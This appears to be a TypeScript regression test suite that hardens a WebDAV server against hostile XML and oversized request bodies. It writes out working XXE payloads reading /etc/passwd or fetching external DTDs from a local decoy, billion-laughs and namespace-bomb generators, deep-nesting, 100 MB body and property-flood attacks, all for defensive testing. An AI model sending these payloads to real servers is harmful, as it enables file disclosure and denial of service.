/**
 * What they send: hostile XML bodies against PROPFIND, PROPPATCH and LOCK
 * of the real host. A DTD, external entities, billion laughs, 10,000-deep
 * nesting, a "namespace bomb" and 100 MB of XML are all refused fast with
 * a 4xx, nothing is fetched from elsewhere, and the server keeps answering
 * others meanwhile.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { startHost, type HostProcess } from '../helpers/host-process.js';
import { startPlugin } from '../helpers/plugin-harness.js';
import { basic, rawExchange, send, type Answer } from '../helpers/raw-http.js';

const ALICE = basic('alice', 'alice-pw');
const METHODS = ['PROPFIND', 'PROPPATCH', 'LOCK'] as const;

function billionLaughs(): string {
  let dtd = '<!ENTITY lol0 "lol">';
  for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  return `<?xml version="1.0"?><!DOCTYPE propfind [${dtd}]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&lol9;</D:displayname></D:prop></D:propfind>`;
}

function namespaceBomb(): string {
  let decls = '';
  for (let i = 0; i < 10_000; i++) decls += ` xmlns:p${i}="urn:p${i}"`;
  const children = '<x/>'.repeat(150_000);
  return `<D:propertyupdate xmlns:D="DAV:"${decls}><D:set><D:prop><z:v xmlns:z="urn:z">${children}</z:v></D:prop></D:set></D:propertyupdate>`;
}

describe('hostile XML bodies', () => {
  let host: HostProcess;
  let decoy: Server;
  let decoyUrl: string;
  const decoyHits: string[] = [];

  const dav = (method: string, body: string | Buffer, headers: Record<string, string> = {}) =>
    send(host.port, {
      method,
      path: method === 'LOCK' ? '/webdav/main/locked.txt' : '/webdav/main/target.txt',
      headers: { authorization: ALICE, depth: '0', 'content-type': 'application/xml; charset=utf-8', ...headers },
      body,
      timeoutMs: 20_000,
    });

  /** Runs `attack` while a GET of a small file is repeated; resolves with the attack's answer and the slowest GET. */
  async function whileProbing<T>(attack: () => Promise<T>): Promise<{ result: T; slowest: number }> {
    let running = true;
    let slowest = 0;
    const probing = (async () => {
      while (running) {
        const res = await send(host.port, { path: '/webdav/main/target.txt', headers: { authorization: ALICE } });
        assert.equal(res.status, 200);
        slowest = Math.max(slowest, res.ms);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })();
    try {
      return { result: await attack(), slowest };
    } finally {
      running = false;
      await probing;
    }
  }

  const assertRefusedFast = (res: Answer, what: string, statuses = [400]) => {
    assert.ok(statuses.includes(res.status), `${what}: ${res.status} ${res.text.slice(0, 200)}`);
    assert.ok(res.ms < 3_000, `${what} took ${res.ms} ms`);
    assert.doesNotMatch(res.text, /root:x?:0:0|lollol/, `${what} echoed what it should not have`);
  };

  before(async () => {
    decoy = createServer((req, res) => {
      decoyHits.push(String(req.url));
      res.end('<!ENTITY exfil "EXFILTRATED">');
    });
    await new Promise<void>((resolve) => decoy.listen(0, '127.0.0.1', resolve));
    decoyUrl = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}`;
    host = await startHost({ users: [{ name: 'alice', password: 'alice-pw', groups: ['WebDAV.main'] }] });
    await writeFile(join(host.dataDir, 'photos', 'target.txt'), 'target');
  });
  after(async () => {
    await host?.stop();
    await new Promise((resolve) => decoy?.close(resolve));
  });

  it('refuses any DTD, internal or external entities, and fetches nothing', async () => {
    const bodies = [
      `<?xml version="1.0"?><!DOCTYPE propfind><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`,
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>`,
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "${decoyUrl}/param.dtd"> %remote;]><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`,
      `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${decoyUrl}/external.dtd"><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`,
      `<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//x//y" "${decoyUrl}/public.dtd"><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`,
      `<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>`, // undeclared entity
      `<D:propfind xmlns:D="DAV:"><!ENTITY x "y"><D:allprop/></D:propfind>`,
      `<?xml version="1.0"?>\n<!-- a comment first -->\n<!DOCTYPE x [<!ELEMENT x ANY>]><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`,
      `<?xml-stylesheet href="${decoyUrl}/style.xsl"?><D:propfind xmlns:D="DAV:" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${decoyUrl}/xinclude"/><D:allprop/></D:propfind>`,
    ];
    for (const method of METHODS) {
      for (const [i, body] of bodies.entries()) {
        const res = await dav(method, body);
        // The XInclude document is well-formed XML that merely names an element nobody honours.
        if (i === bodies.length - 1)
          assert.ok(res.status < 500 && !res.text.includes('EXFILTRATED'), `${method} XInclude: ${res.status}`);
        else assertRefusedFast(res, `${method} body ${i}`);
      }
      // UTF-16 does not smuggle a DTD past the check.
      const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(bodies[1]!, 'utf16le')]);
      assertRefusedFast(
        await dav(method, utf16, { 'content-type': 'application/xml; charset=utf-16' }),
        `${method} UTF-16 XXE`,
      );
    }
    assert.deepEqual(decoyHits, [], 'the server fetched something from the attacker’s server');
  });

  it('billion laughs: refused at once, the server answering others meanwhile', async () => {
    const { result, slowest } = await whileProbing(() =>
      Promise.all(Array.from({ length: 30 }, (_, i) => dav(METHODS[i % 3]!, billionLaughs()))),
    );
    for (const res of result) assertRefusedFast(res, 'billion laughs');
    assert.ok(slowest < 1_000, `a GET took ${slowest} ms meanwhile`);
  });

  it('10,000-deep (and 100,000-deep) nesting: refused fast, no stack overflow', async () => {
    for (const depth of [10_000, 100_000]) {
      // Within the 1 MiB cap, so that the XML reader (not the size cap) has to refuse it.
      const closed = `<D:propfind xmlns:D="DAV:">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</D:propfind>`;
      const unclosed = `<D:propfind xmlns:D="DAV:">${'<D:prop>'.repeat(depth)}`;
      for (const method of METHODS) {
        for (const xml of [closed, unclosed]) {
          assert.ok(Buffer.byteLength(xml) < 1024 * 1024);
          assertRefusedFast(await dav(method, xml), `${method} ${depth} deep`);
        }
      }
    }
  });

  it('regression "namespace bomb": 10,000 prefixes above 150,000 elements are refused instead of costing minutes of CPU', async () => {
    const bomb = namespaceBomb();
    assert.ok(Buffer.byteLength(bomb) < 1024 * 1024, 'below the size cap: only the XML reader can refuse it');
    const { result, slowest } = await whileProbing(() => dav('PROPPATCH', bomb));
    assertRefusedFast(result, 'namespace bomb');
    assert.ok(slowest < 2_000, `a GET took ${slowest} ms meanwhile`);
  });

  /**
   * Sends `head`, then up to 100 MB in 64 KiB pieces as fast as the
   * connection takes them, reading the answer meanwhile. Answering at once
   * and closing means the server resets the connection while the client is
   * still sending: the client then may or may not get to read the 413 before
   * the reset (the kernel drops what was not read yet). What counts is that
   * the server stopped it at once.
   */
  const blast = (head: string, frame: (payload: Buffer) => Buffer, first = '') => {
    let sent = 0;
    const answer = rawExchange(
      host.port,
      (write, isOpen) => {
        write(head + first);
        const piece = frame(Buffer.alloc(64 * 1024, 0x20));
        const pump = (): void => {
          if (sent >= 100 * 1024 * 1024 || !isOpen()) return;
          sent += 64 * 1024;
          if (write(piece)) setImmediate(pump);
          else setTimeout(pump, 5);
        };
        pump();
      },
      { timeoutMs: 15_000 },
    );
    return answer.then((res) => ({ res, sent }));
  };

  const hundredMbHead = (method: string) =>
    `${method} /webdav/main/target.txt HTTP/1.1\r\nHost: x\r\nAuthorization: ${ALICE}\r\nDepth: 0\r\nContent-Type: application/xml\r\nContent-Length: ${100 * 1024 * 1024}\r\n`;

  it('regression "100 Continue invites 100 MB of XML": an announced body past the cap gets 413 without a 100 Continue', async () => {
    for (const method of METHODS) {
      // A client that waits for 100 Continue must not be invited to send 100 MB only to be refused.
      const polite = await rawExchange(host.port, `${hundredMbHead(method)}Expect: 100-continue\r\n\r\n`, {
        timeoutMs: 5_000,
      });
      assert.equal(polite.status, 413, `${method} with Expect: ${polite.text.slice(0, 200)}`);
      assert.ok(polite.closed && polite.ms < 3_000);
      assert.doesNotMatch(polite.text, /HTTP\/1\.1 100/, 'no 100 Continue for a refused body');
    }
    // A small body is still invited at once.
    const small = await rawExchange(
      host.port,
      `PROPFIND /webdav/main/target.txt HTTP/1.1\r\nHost: x\r\nAuthorization: ${ALICE}\r\nDepth: 0\r\nContent-Length: 20\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n`,
      { timeoutMs: 1_000 },
    );
    assert.match(small.text, /^HTTP\/1\.1 100 Continue/);
  });

  it('100 MB of XML announced by Content-Length: 413 at once, without reading it', async () => {
    for (const method of METHODS) {
      const head = hundredMbHead(method);
      // One that starts sending gets its 413 and a closed connection.
      const started = await rawExchange(
        host.port,
        (write) => {
          write(`${head}\r\n`);
          write(Buffer.alloc(64 * 1024, 0x20));
        },
        { timeoutMs: 5_000 },
      );
      assert.equal(started.status, 413, `${method} after 64 KiB: ${started.text.slice(0, 200)}`);
      assert.ok(started.closed && started.ms < 3_000);
      // One that blasts is cut off at once.
      const { res, sent } = await blast(`${head}\r\n`, (payload) => payload);
      assert.ok(res.status === 413 || res.status === 0, `${method} blasting: ${res.text.slice(0, 200)}`);
      assert.ok(res.closed && res.ms < 3_000, `the connection stayed open for ${res.ms} ms`);
      assert.ok(sent < 32 * 1024 * 1024, `the client could send ${sent} bytes before it was stopped`);
    }
  });

  it('100 MB of chunked XML: cut off at the cap, the connection closed, the server responsive', async () => {
    const { result, slowest } = await whileProbing(() =>
      blast(
        `PROPFIND /webdav/main/target.txt HTTP/1.1\r\nHost: x\r\nAuthorization: ${ALICE}\r\nDepth: 0\r\nTransfer-Encoding: chunked\r\n\r\n`,
        (payload) => Buffer.concat([Buffer.from(`${payload.length.toString(16)}\r\n`), payload, Buffer.from('\r\n')]),
        '10\r\n<D:propfind xmln\r\n',
      ),
    );
    assert.ok(result.res.status === 413 || result.res.status === 0, result.res.text.slice(0, 200));
    assert.ok(result.res.closed && result.res.ms < 5_000, `${result.res.ms} ms`);
    assert.ok(result.sent < 40 * 1024 * 1024, `${result.sent} bytes went in before the cut`);
    assert.ok(slowest < 1_000, `a GET took ${slowest} ms meanwhile`);
  });

  it('regression "property flood": 90,000 properties in one PROPPATCH, or piled up over many, are refused (507) without holding up anyone', async () => {
    let props = '';
    for (let i = 0; props.length < 1_000_000 - 100; i++) props += `<Z:p${i}/>`;
    const flood = `<D:propertyupdate xmlns:D="DAV:" xmlns:Z="urn:z"><D:set><D:prop>${props}</D:prop></D:set></D:propertyupdate>`;
    const live = `<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop>${'<D:getetag/>'.repeat(80_000)}</D:prop></D:set></D:propertyupdate>`;
    for (const body of [flood, live]) {
      const { result, slowest } = await whileProbing(() => dav('PROPPATCH', body));
      assertRefusedFast(result, 'property flood', [507]);
      assert.ok(slowest < 1_000, `a GET took ${slowest} ms meanwhile`);
    }
    // Piled up 600 at a time: the second batch would pass the limit, so none of it is stored.
    const batch = (from: number) =>
      `<D:propertyupdate xmlns:D="DAV:" xmlns:Z="urn:z"><D:set><D:prop>${Array.from({ length: 600 }, (_, i) => `<Z:q${from + i}>v</Z:q${from + i}>`).join('')}</D:prop></D:set></D:propertyupdate>`;
    const first = await dav('PROPPATCH', batch(0));
    assert.equal(first.status, 207);
    assert.doesNotMatch(first.text, /HTTP\/1\.1 507/);
    const second = await dav('PROPPATCH', batch(600));
    assert.equal(second.status, 207);
    assert.match(second.text, /HTTP\/1\.1 507/);
    assert.doesNotMatch(second.text, /HTTP\/1\.1 200/);
    const stored = await dav('PROPFIND', '<D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>');
    assert.equal(stored.text.match(/>v</g)?.length ?? 0, 600, 'only the first batch was stored');
  });

  it('the server is still well after all of it', async () => {
    const res = await dav('PROPFIND', '<D:propfind xmlns:D="DAV:"><D:prop><D:getcontentlength/></D:prop></D:propfind>');
    assert.equal(res.status, 207);
    assert.match(res.text, /<D:getcontentlength>6<\/D:getcontentlength>/);
    assert.equal(host.child.exitCode, null);
  });
});

describe('amplification through listings', () => {
  it('"property name flood": a PROPFIND naming more than 1,000 properties is refused with 400', async () => {
    const harness = await startPlugin();
    try {
      const names = Array.from({ length: 1001 }, (_, i) => `<z:p${i}/>`).join('');
      const res = await harness.fetch('/webdav/main/', {
        method: 'PROPFIND',
        headers: { depth: '1' },
        body: `<D:propfind xmlns:D="DAV:" xmlns:z="urn:z"><D:prop>${names}</D:prop></D:propfind>`,
      });
      assert.equal(res.status, 400);
      assert.match(await res.text(), /at most 1000/);
    } finally {
      await harness.stop();
    }
  });

  it('"lock owner flood": a LOCK owner over 4 KiB is refused, and one resource takes at most 64 shared locks', async () => {
    const harness = await startPlugin();
    try {
      await writeFile(join(harness.root, 'a.jpg'), 'a');
      const lockinfo = (owner: string) =>
        `<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:shared/></D:lockscope><D:locktype><D:write/></D:locktype><D:owner>${owner}</D:owner></D:lockinfo>`;
      const big = await harness.fetch('/webdav/main/a.jpg', { method: 'LOCK', body: lockinfo('x'.repeat(5000)) });
      assert.equal(big.status, 400);
      for (let i = 0; i < 64; i++) {
        assert.equal(
          (await harness.fetch('/webdav/main/a.jpg', { method: 'LOCK', body: lockinfo(`client ${i}`) })).status,
          200,
          `lock ${i}`,
        );
      }
      assert.equal(
        (await harness.fetch('/webdav/main/a.jpg', { method: 'LOCK', body: lockinfo('one too many') })).status,
        507,
      );
    } finally {
      await harness.stop();
    }
  });
});
